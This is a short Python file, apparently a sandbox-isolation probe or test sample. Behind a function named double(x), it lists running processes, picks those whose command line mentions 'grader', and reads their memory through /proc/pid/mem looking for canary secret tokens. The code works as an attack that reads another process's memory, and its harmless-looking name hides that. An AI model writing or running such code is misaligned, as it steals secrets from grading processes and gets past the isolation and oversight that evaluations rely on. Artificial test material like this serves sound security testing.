"""Open the memory of every process that is in sight, and search it for canaries."""

import os
import re

TOKEN = re.compile(rb"canary-(?:memory|secret|hidden|reference|victim|environ)-[0-9a-f]{24}")


def search(pid, budget):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            ends, rights = line.split()[:2]
            first, last = (int(end, 16) for end in ends.split("-"))
            if "rw" not in rights or last - first > 1 << 26:
                continue
            memory.seek(first)
            try:
                found = TOKEN.findall(memory.read(last - first))
            except OSError:
                continue
            if found:
                print(pid, found[:3])
                return
            budget -= last - first
            if budget < 0:
                return


def double(x):
    for pid in ["@@victim@@", *(name for name in os.listdir("/proc") if name.isdigit())]:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                graders = b"grader" in file.read() or pid == "@@victim@@"
            if graders and pid != str(os.getpid()):
                search(pid, 1 << 27)
        except OSError:
            continue
